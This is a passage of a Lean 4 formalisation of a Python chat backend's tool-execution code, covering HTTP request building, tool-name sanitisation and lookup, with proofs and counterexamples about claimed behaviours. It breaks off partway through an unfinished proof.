    (audioTypeToExtension.find? (fun p => strContainsSub contentType p.1)).map (·.2)
  let isAudioResponse := fileExt.isSome ∨ strContainsSub (pyToLower url) "/audio/"
  let fileExt2 : Option String :=
    if fileExt.isNone ∧ strContainsSub (pyToLower url) "/audio/" then some ".mp3"
    else fileExt
  let audioResult : Option String :=
    if isAudioResponse then
      match fileExt2 with
      | some ext =>
          if writeOk then
            some ("Audio file generated and saved as /tmp/api_audio_output_" ++
              fileId ++ ext ++ ". You can listen to it or download it.")
          else none
      | none => none
    else none
  match audioResult with
  | some r => r
  | none =>
      if strContainsSub contentType "application/json" then
        match respJson with
        | some j => dumpsIndent 0 j
        | none => respText
      else respText

/-- Model of `_make_http_request` (lines 818–875).  An unsupported method raises
`ValueError` before any request is made; the generic handler turns it —
like every other exception — into a result string. -/
def make_http_request (method url : String) (outcome : HttpOutcome)
    (fileId : String) (writeOk : Bool) : String :=
  if method = "GET" ∨ method = "POST" ∨ method = "PUT" ∨ method = "DELETE" then
    match outcome with
    | .netError msg => "Error making HTTP request: " ++ msg
    | .response status ct text jsonBody =>
        if 200 ≤ status ∧ status ≤ 299 then
          process_response ct text jsonBody url fileId writeOk
        else "Error code: " ++ toString status ++ " - " ++ text
  else "Error making HTTP request: Unsupported HTTP method: " ++ method

/-! ## `execute_api_tool` (openai_helper.py lines 666–816)

Exceptions raised while assembling the request are modelled as
`Except.error` carrying the eventual result string
(`"Error executing API tool: " ++ str(e)`); the early `return`s of the
source are the other error cases.  The CPython `TypeError` message texts
are reproduced where iteration or membership would raise; no claim
evaluates them.
-/

/-- Iterating a JSON value for string keys, as `for name in x:` does:
a dict yields its keys, a string its characters, a list its elements
(non-string elements can never match the string-keyed arguments dict, so
they are dropped), and anything else raises. -/
def jsonIterStrKeys : Json → Except String (List String)
  | .obj fs => .ok (fs.map (·.1))
  | .arr xs => .ok (xs.filterMap (fun x => match x with | .str s => some s | _ => none))
  | .str s => .ok (s.data.map (fun c => String.mk [c]))
  | j => .error ("'" ++ pyTypeName j ++ "' object is not iterable")

/-- Model of `if k in args: args[k]` where `args` may be any decoded JSON value:
membership in a dict is a key test, in a string a substring test followed
by an indexing error on a hit, in a list an element test likewise, and on
scalars `in` itself raises. -/
def pyArgsGet (args : Json) (k : String) : Except String (Option Json) :=
  match args with
  | .obj fs => .ok (lookupPairs fs k)
  | .str s =>
      if strContainsSub s k then .error "string indices must be integers"
      else .ok none
  | .arr xs =>
      if xs.any (fun x => match x with | .str s => s = k | _ => false) then
        .error "list indices must be integers or slices, not str"
      else .ok none
  | j => .error ("argument of type '" ++ pyTypeName j ++ "' is not iterable")

/-- The query-parameter loop of `_prepare_request_params` (lines
801–804): a declared parameter is included when present in the
arguments. -/
def configParamsComp (config : ToolConfig) (args : Json) :
    Except String (List (String × Json)) :=
  if !config.params.isEmpty then
    config.params.foldlM (fun acc p => do
        match ← pyArgsGet args p.1 with
        | some v => pure (mapSet acc p.1 v)
        | none => pure acc)
      ([] : List (String × Json))
  else pure []

/-- The body loop of `_prepare_request_params` (lines 806–814): each
property of the configured body schema is included when present in the
arguments. -/
def configBodyComp (config : ToolConfig) (args : Json) :
    Except String (List (String × Json)) :=
  match config.body_schema with
  | some bs =>
    if bs.truthy then
      match bs with
      | .obj fields =>
        match lookupPairs fields "properties" with
        | some props => do
            let keys ← jsonIterStrKeys props
            keys.foldlM (fun b k => do
                match ← pyArgsGet args k with
                | some v => pure (mapSet b k v)
                | none => pure b)
              ([] : List (String × Json))
        | none => pure []
      | _ => pure []
    else pure []
  | none => pure []

/-- Model of `_prepare_request_params` (lines 776–816). -/
def prepare_request_params (config : ToolConfig) (args : Json) :
    Except String (List (String × Json) × List (String × Json) ×
      List (String × Json)) :=
  let headers := if !config.headers.isEmpty then dictUpdate [] config.headers else []
  match configParamsComp config args with
  | .error e => .error e
  | .ok params =>
    match configBodyComp config args with
    | .error e => .error e
    | .ok body => .ok (headers, params, body)

/-- Lines 720–727: fold the request-body-schema properties that appear in
the arguments into the body. -/
def mergeBodyFromSchema (apiReq : ApiRequest) (args : Json)
    (body : List (String × Json)) : Except String (List (String × Json)) :=
  match apiReq.request_body_schema with
  | some schema =>
    if schema.truthy then
      match schema with
      | .obj fields =>
        match lookupPairs fields "properties" with
        | some props => do
            let keys ← jsonIterStrKeys props
            keys.foldlM (fun b k => do
                match ← pyArgsGet args k with
                | some v => pure (mapSet b k v)
                | none => pure b)
              body
        | none => .ok body
      | _ => .ok body
    else .ok body
  | none => .ok body

/-- Server-URL resolution (lines 689–705): configured `server_url`, else
`scheme://netloc` of the request's own `url`, else the linked API's
`server`. -/
def resolveServerUrl (config : ToolConfig) (apiReq : ApiRequest) : String :=
  let su1 := config.server_url.getD ""
  let su2 :=
    if su1 = "" then
      match apiReq.url with
      | some u => if u ≠ "" then urlparseScheme u ++ "://" ++ urlparseNetloc u else ""
      | none => ""
    else su1
  if su2 = "" then
    match apiReq.api with
    | some api =>
        match api.server with
        | some s => s
        | none => ""
    | none => ""
  else su2

/-- The request `execute_api_tool` is about to issue. -/
structure PreparedRequest where
  method : String
  url : String
  headers : List (String × Json)
  params : List (String × Json)
  body : List (String × Json)

/-- URL assembly and validation (lines 686–715): `endpoint` is the
request's `path`; `full_url = f"{server_url}{endpoint}" if server_url
else endpoint`, failing closed on a missing or non-HTTP URL. -/
def resolveFullUrl (config : ToolConfig) (apiReq : ApiRequest) :
    Except String String :=
  let serverUrl := resolveServerUrl config apiReq
  let fullUrlOpt : Option String :=
    if serverUrl ≠ "" then some (serverUrl ++ pyShowOpt apiReq.path)
    else apiReq.path
  match fullUrlOpt with
  | none => .error ("Error: Could not determine URL for API request " ++ apiReq.id)
  | some fullUrl =>
    if fullUrl = "" then
      .error ("Error: Could not determine URL for API request " ++ apiReq.id)
    else if ¬(pyStartsWith fullUrl "http://" ∨ pyStartsWith fullUrl "https://") then
      .error ("Error: Invalid URL " ++ fullUrl ++
        ". URL must start with http:// or https://")
    else .ok fullUrl

/-- Lines 755–762: the credential test is `"openai.com" in full_url` — a
plain substring test on the whole URL string, not a host comparison; on a
hit the bearer header is set, and `Content-Type` is forced for POST/PUT. -/
def injectProviderAuth (fullUrl method apiKey : String)
    (headers : List (String × Json)) : List (String × Json) :=
  if strContainsSub fullUrl "openai.com" then
    let h1 := mapSet headers "Authorization" (.str ("Bearer " ++ apiKey))
    if method = "POST" ∨ method = "PUT" then
      mapSet h1 "Content-Type" (.str "application/json")
    else h1
  else headers

/-- The pure part of `execute_api_tool` (lines 677–762): everything up to
the hand-off to `_make_http_request`. -/
def build_api_tool_request (tool : Tool) (args : Json) (apiKey : String) :
    Except String PreparedRequest :=
  match tool.api_request with
  | none => .error ("Error: No API request associated with tool " ++ tool.id ++
      " (" ++ pyShowOpt tool.name ++ ")")
  | some apiReq =>
    let config := tool.configuration.getD {}
    let method := match apiReq.method with
      | some mtd => if mtd ≠ "" then pyToUpper mtd else "GET"
      | none => "GET"
    match resolveFullUrl config apiReq with
    | .error e => .error e
    | .ok fullUrl =>
      match prepare_request_params config args with
      | .error e => .error ("Error executing API tool: " ++ e)
      | .ok (headers, params, body) =>
        match mergeBodyFromSchema apiReq args body with
        | .error e => .error ("Error executing API tool: " ++ e)
        | .ok body2 =>
          .ok { method := method, url := fullUrl,
                headers := injectProviderAuth fullUrl method apiKey headers,
                params := params, body := body2 }

/-- Model of `execute_api_tool`: build the request, then issue it; every failure
is already a result string. -/
def execute_api_tool (tool : Tool) (args : Json) (apiKey : String)
    (outcome : HttpOutcome) (fileId : String) (writeOk : Bool) : String :=
  match build_api_tool_request tool args apiKey with
  | .error e => e
  | .ok req => make_http_request req.method req.url outcome fileId writeOk

/-! ## `_execute_tool` and `handle_tool_calls_with_array`
(openai_helper.py lines 1085–1271)
-/

/-- Rendering of the `tool_type` column (a plain string in the DB) inside
an f-string. -/
def showToolTypeOpt : Option ToolType → String
  | none => "None"
  | some .function => "function"
  | some .webSearch => "web_search_preview"
  | some .fileSearch => "file_search"

/-- Lines 1102–1114 / 1226–1235 (the same resolution is performed by the
loop and by `_execute_tool`): look the registered name up, then find the
tool with the resulting id. -/
def resolvedToolOf (m : NameMap) (tools : List Tool) (functionName : String) :
    Option Tool :=
  match get_tool_id_by_name m functionName with
  | some tid => tools.find? (fun t => t.id == tid)
  | none => none

/-- Lines 1228–1235: the canonical tool name recorded with the transcript
entries, falling back to the provider-visible name. -/
def canonicalNameOf (m : NameMap) (tools : List Tool) (functionName : String) :
    Json :=
  match resolvedToolOf m tools functionName with
  | some t => optStrToJson t.name
  | none => .str functionName

/-- Model of `_execute_tool` (lines 1085–1138): resolve by registered name, then
by canonical tool name, else the not-found string; endpoint-linked tools
go to `execute_api_tool`. -/
def execute_tool (m : NameMap) (tools : List Tool) (functionName : String)
    (args : Json) (apiKey : String) (outcome : HttpOutcome) (fileId : String)
    (writeOk : Bool) : String :=
  let tool : Option Tool := match resolvedToolOf m tools functionName with
    | some t => some t
    | none => tools.find? (fun t => match t.name with
        | some n => n == functionName
        | none => false)
  match tool with
  | none => "Tool not found for function: " ++ functionName
  | some t =>
    if optStrTruthy t.api_request_id then
      execute_api_tool t args apiKey outcome fileId writeOk
    else match t.tool_type with
      | some .function =>
          "Executed function " ++ functionName ++ " with args " ++ pyRepr args ++
            ". This is a placeholder response."
      | tt => "Unsupported tool type: " ++ showToolTypeOpt tt

/-- Model of `_create_tool_call_message` (lines 1012–1048); the fresh uuid is the
`msgId` parameter. -/
def create_tool_call_message (chatId msgId : String)
    (openaiToolCallId toolLinkingId toolDefinitionName openaiFunctionName : Json)
    (functionArgs : Json) : Msg :=
  { id := msgId, chatid := chatId, sender := none, sender_name := some "Oats",
    type := .toolCall, content := none, role := some "assistant",
    openai_tool_call_id := openaiToolCallId, tool_call_id := toolLinkingId,
    tool_definition_name := toolDefinitionName,
    openai_function_name := openaiFunctionName,
    function_arguments := some (dumpsCompact functionArgs) }

/-- Model of `_create_tool_result_message` (lines 1050–1083). -/
def create_tool_result_message (chatId msgId : String)
    (toolLinkingId toolDefinitionName openaiFunctionName : Json)
    (functionResult : String) : Msg :=
  { id := msgId, chatid := chatId, sender := none, sender_name := some "Oats",
    type := .toolResult, content := none, role := some "tool",
    tool_call_id := toolLinkingId, tool_definition_name := toolDefinitionName,
    openai_function_name := openaiFunctionName,
    function_result := some functionResult }

/-- The I/O boundary of one tool round-trip: `json.loads`, the per-call
network outcome, and the uuid supplies. -/
structure ExecEnv where
  jsonLoads : String → Option Json
  http : Nat → HttpOutcome
  fileId : Nat → String
  writeOk : Nat → Bool
  uuid : Nat → String

/-- Object-style tool-call payload (`ResponseFunctionToolCall`), whose
attributes are strings or `None`. -/
structure ObjCall where
  type : Option String := none
  id : Option String := none
  call_id : Option String := none
  name : Option String := none
  arguments : Option Json := none

/-- The payload shapes `handle_tool_calls_with_array` dispatches on:
a dict, an SDK object, or something else (skipped with a warning). -/
inductive ProviderCall where
  | dictCall (fields : List (String × Json))
  | objCall (o : ObjCall)
  | otherShape

/-- The object substituted for unparseable arguments (lines 1188–1190 and
1212–1214). -/
def substitutedArgs (s : String) : Json :=
  .obj [("error", .str "Failed to parse arguments"),
        ("arguments_string", .str s)]

/-- Model of `json.loads(args) if isinstance(args, str) else args`, with the
substitution on `JSONDecodeError`. -/
def parseArgsJson (jsonLoads : String → Option Json) (raw : Json) : Json :=
  match raw with
  | .str s =>
      match jsonLoads s with
      | some v => v
      | none => substitutedArgs s
  | j => j

/-- Shape normalisation (lines 1169–1219): extract
`(fc id, call id, name, raw arguments)`; `none` means the entry is
skipped.  For the dict shape the values come from `.get` (default
`None`); the comparison `.get('type') == 'function_call'` only succeeds
on the exact string. -/
def normalizeCall : ProviderCall → Option (Json × Json × Json × Json)
  | .dictCall fields =>
    (match lookupPairs fields "type" with
     | some (.str t) =>
       if t = "function_call" then
         some ((lookupPairs fields "id").getD .null,
               (lookupPairs fields "call_id").getD .null,
               (lookupPairs fields "name").getD .null,
               (lookupPairs fields "arguments").getD .null)
       else none
     | _ => none)
  | .objCall o =>
    (match o.type with
     | some t =>
       if t = "function_call" then
         some (optStrToJson o.id, optStrToJson o.call_id, optStrToJson o.name,
               o.arguments.getD .null)
       else none
     | none => none)
  | .otherShape => none

/-- One loop iteration after shape normalisation (lines 1177–1268):
fall back to the fc id when the call id is falsy, skip when call id or
name is falsy, resolve the canonical tool, record the `ToolCall` message,
execute, record the `ToolResult` message.  A truthy non-string name makes
`_get_tool_id_by_name` raise (hashing a list/dict, or `.split` on a
number), which aborts the whole handler — the `.error` cases. -/
def processNormalized (env : ExecEnv) (m : NameMap) (tools : List Tool)
    (apiKey chatId : String) (idx : Nat)
    (fcId callId0 nameJ rawArgs : Json) : Except String (Option (Msg × Msg)) :=
  let callId := if callId0.truthy then callId0 else fcId
  let functionArgs := parseArgsJson env.jsonLoads rawArgs
  if ¬ callId.truthy ∨ ¬ nameJ.truthy then .ok none
  else
    match nameJ with
    | .str nameS =>
      .ok (some
        (create_tool_call_message chatId (env.uuid (2 * idx)) fcId callId
          (canonicalNameOf m tools nameS) (.str nameS) functionArgs,
         create_tool_result_message chatId (env.uuid (2 * idx + 1)) callId
          (canonicalNameOf m tools nameS) (.str nameS)
          (execute_tool m tools nameS functionArgs apiKey (env.http idx)
            (env.fileId idx) (env.writeOk idx))))
    | .arr _ => .error "unhashable type: 'list'"
    | .obj _ => .error "unhashable type: 'dict'"
    | j => .error ("'" ++ pyTypeName j ++ "' object has no attribute 'split'")

/-- The loop of `handle_tool_calls_with_array`, indexed by position in
the call list (the index only feeds the I/O supplies).  An `.error`
aborts the loop, as the raised exception would; messages already
committed to the database by earlier iterations are out of scope here. -/
def handle_tool_calls_from (env : ExecEnv) (m : NameMap) (tools : List Tool)
    (apiKey chatId : String) : Nat → List ProviderCall → Except String (List Msg)
  | _, [] => .ok []
  | idx, c :: rest =>
    match (match normalizeCall c with
           | none => Except.ok none
           | some (fcId, callId, nameJ, rawArgs) =>
               processNormalized env m tools apiKey chatId idx fcId callId nameJ
                 rawArgs) with
    | .error e => .error e
    | .ok none => handle_tool_calls_from env m tools apiKey chatId (idx + 1) rest
    | .ok (some (cm, rm)) =>
      match handle_tool_calls_from env m tools apiKey chatId (idx + 1) rest with
      | .error e => .error e
      | .ok ms => .ok (cm :: rm :: ms)

/-- Model of `handle_tool_calls_with_array` (lines 1140–1271). -/
def handle_tool_calls_with_array (env : ExecEnv) (m : NameMap)
    (tools : List Tool) (apiKey chatId : String) (calls : List ProviderCall) :
    Except String (List Msg) :=
  handle_tool_calls_from env m tools apiKey chatId 0 calls

/-! ## Shared lemmas
-/

/-- Field access on a provider declaration object. -/
def Json.lookup : Json → String → Option Json
  | .obj fs, k => lookupPairs fs k
  | _, _ => none

theorem lookup_mapSet_self {α : Type} (m : List (String × α)) (k : String) (v : α) :
    lookupPairs (mapSet m k v) k = some v := by
  induction m with
  | nil => simp [mapSet, lookupPairs]
  | cons p rest ih =>
      by_cases h : p.1 = k
      · simp [mapSet, h, lookupPairs]
      · simp [mapSet, h, lookupPairs, ih]

theorem lookup_mapSet_other {α : Type} (m : List (String × α)) (k' k : String)
    (v : α) (h : k' ≠ k) :
    lookupPairs (mapSet m k' v) k = lookupPairs m k := by
  induction m with
  | nil => simp [mapSet, lookupPairs, h]
  | cons p rest ih =>
      by_cases hp : p.1 = k'
      · simp [mapSet, hp, lookupPairs, h]
      · simp [mapSet, hp, lookupPairs, ih]

theorem lookup_foldl_mapSet_untouched {α : Type} (ops : List (String × α))
    (k : String) (h : ∀ p ∈ ops, p.1 ≠ k) :
    ∀ m : List (String × α),
      lookupPairs (ops.foldl (fun acc p => mapSet acc p.1 p.2) m) k =
        lookupPairs m k := by
  induction ops with
  | nil => intro m; rfl
  | cons p rest ih =>
      intro m
      have hp : p.1 ≠ k := h p (List.mem_cons_self p rest)
      have hrest : ∀ q ∈ rest, q.1 ≠ k := fun q hq => h q (List.mem_cons_of_mem p hq)
      simpa [lookup_mapSet_other m p.1 k p.2 hp] using
        (ih hrest (mapSet m p.1 p.2)).trans (lookup_mapSet_other m p.1 k p.2 hp)

/-- The replacement step of the sanitizer only produces legal characters. -/
theorem legal_after_replace (c : Char) :
    isLegalChar (if isLegalChar c then c else '_') = true := by
  by_cases h : isLegalChar c = true
  · simp [h]
  · simp [h]; decide

/-- The two phrasings of the conditional `f_` prefix agree. -/
theorem needsFPrefix_eq (cs : List Char) :
    needsFPrefix cs = !(startsWithAlphaOrUnderscore cs || cs.isEmpty) := by
  cases cs with
  | nil => rfl
  | cons c rest => simp [needsFPrefix, startsWithAlphaOrUnderscore]

theorem sanitize_eq_pipeline (name : String) :
    sanitize_tool_name name = sanitizeSpecPipeline name := by
  by_cases h : name = ""
  · subst h; rfl
  · unfold sanitize_tool_name sanitizeSpecPipeline
    rw [if_neg h]
    dsimp only
    set cs := name.data.map (fun c => if isLegalChar c then c else '_') with hcs
    have hpref : (if needsFPrefix cs then 'f' :: '_' :: cs else cs) =
        (if startsWithAlphaOrUnderscore cs || cs.isEmpty then cs
         else 'f' :: '_' :: cs) := by
      rw [needsFPrefix_eq]
      by_cases hb : (startsWithAlphaOrUnderscore cs || cs.isEmpty) = true
      · simp [hb]
      · simp [hb]
    rw [hpref]
    set cs2 := if startsWithAlphaOrUnderscore cs || cs.isEmpty then cs
      else 'f' :: '_' :: cs with hcs2
    by_cases hl : cs2.length > 64
    · rw [if_pos hl]
    · rw [if_neg hl, List.take_of_length_le (Nat.le_of_not_lt hl)]

theorem sanitize_legal (name : String) :
    isLegalName (sanitize_tool_name name) = true := by
  have finish : ∀ cs2 : List Char, cs2.all isLegalChar = true →
      isLegalName (if (if cs2.length > 64 then cs2.take 64 else cs2).isEmpty
        then "unnamed_tool"
        else String.mk (if cs2.length > 64 then cs2.take 64 else cs2)) = true := by
    intro cs2 hall
    set cs3 := if cs2.length > 64 then cs2.take 64 else cs2 with hcs3
    by_cases he : cs3.isEmpty
    · rw [if_pos he]; decide
    · rw [if_neg he]
      have hall3 : cs3.all isLegalChar = true := by
        rw [hcs3]
        by_cases hl : cs2.length > 64
        · rw [if_pos hl, List.all_eq_true] at *
          intro x hx; exact hall x (List.take_subset 64 cs2 hx)
        · rw [if_neg hl]; exact hall
      have hlen3 : cs3.length ≤ 64 := by
        rw [hcs3]
        by_cases hl : cs2.length > 64
        · rw [if_pos hl, List.length_take]; exact Nat.min_le_left 64 cs2.length
        · rw [if_neg hl]; exact Nat.le_of_not_lt hl
      have hne : cs3 ≠ [] := by
        intro hnil; rw [hnil] at he; exact he rfl
      have hpos : 1 ≤ cs3.length := by
        have := List.length_pos.mpr hne; omega
      show (decide (1 ≤ cs3.length) && decide (cs3.length ≤ 64) &&
        cs3.all isLegalChar) = true
      simp [hpos, hlen3, hall3]
  unfold sanitize_tool_name
  by_cases h : name = ""
  · rw [if_pos h]; decide
  · rw [if_neg h]
    dsimp only
    set cs := name.data.map (fun c => if isLegalChar c then c else '_') with hcs
    have hmap : cs.all isLegalChar = true := by
      rw [hcs, List.all_map, List.all_eq_true]
      intro c _; exact legal_after_replace c
    by_cases hn : needsFPrefix cs = true
    · rw [if_pos hn]
      refine finish ('f' :: '_' :: cs) ?_
      simp only [List.all_cons, Bool.and_eq_true]
      exact ⟨by decide, by decide, hmap⟩
    · rw [if_neg hn]
      exact finish cs hmap

/--
C6: for every input string (the empty string included), the sanitizer is
exactly the spec's replace → conditional `f_`-prefix → truncate-to-64 →
fallback-if-empty pipeline, and its output always matches
`^[A-Za-z0-9_-]{1,64}$`.
-/
theorem c6_sanitize_pipeline_and_legal (name : String) :
    sanitize_tool_name name = sanitizeSpecPipeline name ∧
      isLegalName (sanitize_tool_name name) = true :=
  ⟨sanitize_eq_pipeline name, sanitize_legal name⟩

/--
C8: registering a legal name and resolving it afterwards — with any
number of intervening registrations for *other* names — returns the
registered tool id.
-/
theorem c8_register_resolve_roundtrip (m : NameMap) (name toolId : String)
    (ops : List (String × String)) (h : ∀ p ∈ ops, p.1 ≠ name) :
    get_tool_id_by_name
      (ops.foldl (fun acc p => register_tool_name_mapping acc p.1 p.2)
        (register_tool_name_mapping m name toolId)) name = some toolId := by
  have hl : lookupPairs
      (ops.foldl (fun acc p => mapSet acc p.1 p.2)
        (mapSet m name toolId)) name = some toolId := by
    rw [lookup_foldl_mapSet_untouched ops name h (mapSet m name toolId)]
    exact lookup_mapSet_self m name toolId
  unfold get_tool_id_by_name register_tool_name_mapping
  rw [hl]

/-- Witness for C8 at a concrete registry. -/
theorem c8_register_resolve_roundtrip_witness :
    get_tool_id_by_name
      (([("other_tool", "id-2")] : List (String × String)).foldl
        (fun acc p => register_tool_name_mapping acc p.1 p.2)
        (register_tool_name_mapping ([] : NameMap) "my_tool" "id-1"))
      "my_tool" = some "id-1" :=
  c8_register_resolve_roundtrip ([] : NameMap) "my_tool" "id-1"
    [("other_tool", "id-2")] (by decide)

/-! ## Concrete fixtures used by counterexamples and witnesses
-/

/-- A bare WebSearch tool (no optional configuration). -/
def wsToolEx : Tool := { id := "ws1", tool_type := some .webSearch }

/-- A WebSearch tool with a `user_location` in its stored schema. -/
def wsToolEx2 : Tool :=
  { id := "ws2", tool_type := some .webSearch,
    function_schema := some (Json.obj [("user_location", Json.str "US")]) }

/-- The endpoint of end-to-end scenario B:
`POST https://api.example.com/v1/items`. -/
def exApi : Api := { server := some "https://api.example.com" }

def exApiRequest : ApiRequest :=
  { id := "req-1", path := some "/v1/items", method := some "POST",
    api := some exApi }

/-- The Function tool linked to that endpoint. -/
def exTool : Tool :=
  { id := "tool-1234-5678", name := some "Create Item",
    tool_type := some .function, api_request_id := some "req-1",
    api_request := some exApiRequest }

/-- A second, distinct tool linked to the same endpoint. -/
def exTool2 : Tool := { exTool with id := "zzzz-9999-0000" }

/-! ## C1 — WebSearch formatting
-/

/--
C1 counterexample: a WebSearch tool is formatted as
`{type: "web_search_preview"}`, not as the claimed `{type: "web_search"}`.
-/
theorem c1_web_search_type_counterexample :
    (format_tools_for_openai [wsToolEx] ([] : NameMap)).1 =
        [Json.obj [("type", Json.str "web_search_preview")]] ∧
      ¬ (format_tools_for_openai [wsToolEx] ([] : NameMap)).1 =
        [Json.obj [("type", Json.str "web_search")]] := by
  refine ⟨rfl, fun hcontra => ?_⟩
  have h1 : (format_tools_for_openai [wsToolEx] ([] : NameMap)).1 =
      [Json.obj [("type", Json.str "web_search_preview")]] := rfl
  rw [h1] at hcontra
  simp at hcontra

theorem webSearchDecl_obj (fields : List (String × Json)) :
    webSearchDecl (some (.obj fields)) = some (webSearchObjDecl fields) := by
  by_cases ht : Json.truthy (.obj fields) = true
  · simp [webSearchDecl, webSearchTruthyDecl, ht]
  · have hfe : fields = [] := by
      by_contra hne
      exact ht (by simp [Json.truthy, hne])
    subst hfe
    rfl

theorem webSearchObjDecl_lookups (fields : List (String × Json)) :
    (webSearchObjDecl fields).lookup "type" =
        some (Json.str "web_search_preview") ∧
      (webSearchObjDecl fields).lookup "user_location" =
        lookupPairs fields "user_location" ∧
      (webSearchObjDecl fields).lookup "search_context_size" =
        lookupPairs fields "search_context_size" := by
  unfold webSearchObjDecl
  cases hul : lookupPairs fields "user_location" <;>
    cases hscs : lookupPairs fields "search_context_size" <;>
      simp [Json.lookup, lookupPairs]

/--
C1 amended: for every WebSearch tool whose stored schema is a JSON
object, the formatter emits exactly one declaration, it leaves the name
registry untouched, the declaration's `type` is `"web_search_preview"`
(not `"web_search"`), and `user_location` / `search_context_size` are
copied from the schema exactly when present there.
-/
theorem c1_web_search_format_amended (t : Tool) (m : NameMap)
    (fields : List (String × Json))
    (h1 : t.tool_type = some ToolType.webSearch)
    (h2 : t.function_schema = some (Json.obj fields)) :
    (format_tools_for_openai [t] m).2 = m ∧
      (format_tools_for_openai [t] m).1.length = 1 ∧
      ((format_tools_for_openai [t] m).1.headD Json.null).lookup "type" =
        some (Json.str "web_search_preview") ∧
      ((format_tools_for_openai [t] m).1.headD Json.null).lookup "user_location" =
        lookupPairs fields "user_location" ∧
      ((format_tools_for_openai [t] m).1.headD Json.null).lookup
          "search_context_size" =
        lookupPairs fields "search_context_size" := by
  have hfmt : format_tools_for_openai [t] m = ([webSearchObjDecl fields], m) := by
    simp only [format_tools_for_openai, format_tool_for_openai, h1, h2,
      webSearchDecl_obj]
  rw [hfmt]
  obtain ⟨ha, hb, hc⟩ := webSearchObjDecl_lookups fields
  exact ⟨rfl, rfl, ha, hb, hc⟩

/-- Witness for C1 (amended) at a concrete WebSearch tool carrying a
`user_location`. -/
theorem c1_web_search_format_amended_witness :
    (format_tools_for_openai [wsToolEx2] ([] : NameMap)).2 = ([] : NameMap) ∧
      (format_tools_for_openai [wsToolEx2] ([] : NameMap)).1.length = 1 ∧
      ((format_tools_for_openai [wsToolEx2] ([] : NameMap)).1.headD
          Json.null).lookup "type" = some (Json.str "web_search_preview") ∧
      ((format_tools_for_openai [wsToolEx2] ([] : NameMap)).1.headD
          Json.null).lookup "user_location" =
        lookupPairs [("user_location", Json.str "US")] "user_location" ∧
      ((format_tools_for_openai [wsToolEx2] ([] : NameMap)).1.headD
          Json.null).lookup "search_context_size" =
        lookupPairs [("user_location", Json.str "US")] "search_context_size" :=
  c1_web_search_format_amended wsToolEx2 ([] : NameMap)
    [("user_location", Json.str "US")] rfl rfl

/-! ## C2 — name synthesis for `POST https://api.example.com/v1/items`
-/

/--
C2 counterexample: the synthesised legal name for the scenario-B endpoint
is `api_example_v1_items_post` — the `api.` host label survives the
`_com`-suffix strip — not the claimed `example_v1_items_post`, and
resolving the claimed name afterwards yields nothing (the direct lookup
misses and the trailing-token heuristic finds no id starting with
`post`).
-/
theorem c2_scenario_b_name_counterexample :
    ((format_tools_for_openai [exTool] ([] : NameMap)).1.headD Json.null).lookup
        "name" = some (Json.str "api_example_v1_items_post") ∧
      ¬ ("api_example_v1_items_post" = "example_v1_items_post") ∧
      get_tool_id_by_name (format_tools_for_openai [exTool] ([] : NameMap)).2
        "example_v1_items_post" = none :=
  ⟨rfl, by decide, rfl⟩

/--
C2 amended: synthesis followed by sanitisation produces the legal name
`api_example_v1_items_post`, and resolving *that* name afterwards returns
the original tool's id.
-/
theorem c2_scenario_b_name_amended :
    ((format_tools_for_openai [exTool] ([] : NameMap)).1.headD Json.null).lookup
        "name" = some (Json.str "api_example_v1_items_post") ∧
      isLegalName "api_example_v1_items_post" = true ∧
      get_tool_id_by_name (format_tools_for_openai [exTool] ([] : NameMap)).2
        "api_example_v1_items_post" = some "tool-1234-5678" :=
  ⟨rfl, by decide, rfl⟩

/-! ## C4 — legal names, but no uniqueness
-/

/--
C4 counterexample: two distinct tools linked to the same endpoint are
both formatted, and both carry the *same* provider-visible name — the
output names of one batch are not pairwise distinct.
-/
theorem c4_duplicate_names_counterexample :
    ((format_tools_for_openai [exTool, exTool2] ([] : NameMap)).1.map
        (fun d => d.lookup "name")) =
      [some (Json.str "api_example_v1_items_post"),
       some (Json.str "api_example_v1_items_post")] ∧
      ¬ (exTool.id = exTool2.id) :=
  ⟨rfl, by decide⟩

theorem apiToolName_legal (t : Tool) (r : ApiRequest) :
    isLegalName (apiToolName t r) = true := by
  unfold apiToolName
  exact sanitize_legal _

theorem customToolName_legal (t : Tool) :
    isLegalName (customToolName t) = true := by
  unfold customToolName
  exact sanitize_legal _

theorem fallbackToolName_legal (t : Tool) :
    isLegalName (fallbackToolName t) = true := by
  unfold fallbackToolName
  exact sanitize_legal _

theorem webSearchDecl_lookup_name (fs : Option Json) (d : Json)
    (h : webSearchDecl fs = some d) : d.lookup "name" = none := by
  cases fs with
  | none =>
      simp only [webSearchDecl] at h
      cases h; rfl
  | some j =>
    by_cases ht : Json.truthy j = true
    · rw [show webSearchDecl (some j) = webSearchTruthyDecl j from by
        simp [webSearchDecl, ht]] at h
      cases j with
      | obj fields =>
        simp only [webSearchTruthyDecl] at h
        cases h
        unfold webSearchObjDecl
        cases hul : lookupPairs fields "user_location" <;>
          cases hscs : lookupPairs fields "search_context_size" <;>
            simp [Json.lookup, lookupPairs]
      | str s =>
        simp only [webSearchTruthyDecl] at h
        by_cases hc : (strContainsSub s "user_location" = true ∨
            strContainsSub s "search_context_size" = true)
        · rw [if_pos hc] at h; exact Option.noConfusion h
        · rw [if_neg hc] at h; cases h; rfl
      | arr xs =>
        simp only [webSearchTruthyDecl] at h
        by_cases hc : (xs.any (fun x => match x with
            | .str s => s = "user_location" ∨ s = "search_context_size"
            | _ => false)) = true
        · rw [if_pos hc] at h; exact Option.noConfusion h
        · rw [if_neg hc] at h; cases h; rfl
      | null => simp only [webSearchTruthyDecl] at h; exact Option.noConfusion h
      | bool b => simp only [webSearchTruthyDecl] at h; exact Option.noConfusion h
      | num n => simp only [webSearchTruthyDecl] at h; exact Option.noConfusion h
    · rw [show webSearchDecl (some j) =
          some (.obj [("type", .str "web_search_preview")]) from by
        simp [webSearchDecl, ht]] at h
      cases h; rfl

theorem format_tool_name_ok (t : Tool) (m : NameMap) (d : Json) (m' : NameMap)
    (h : format_tool_for_openai t m = (some d, m')) :
    d.lookup "name" = none ∨
      ∃ s, d.lookup "name" = some (Json.str s) ∧ isLegalName s = true := by
  unfold format_tool_for_openai at h
  cases ht : t.tool_type with
  | none => rw [ht] at h; exact absurd h (by simp)
  | some tt =>
    rw [ht] at h
    cases tt with
    | webSearch =>
      have hd : webSearchDecl t.function_schema = some d := by
        have := congrArg Prod.fst h
        simpa using this
      exact Or.inl (webSearchDecl_lookup_name _ d hd)
    | fileSearch =>
      have hd : (some (Json.obj [("type", Json.str "file_search")]) :
          Option Json) = some d := by
        have := congrArg Prod.fst h
        simpa using this
      cases hd
      exact Or.inl rfl
    | function =>
      by_cases ha : optStrTruthy t.api_request_id = true
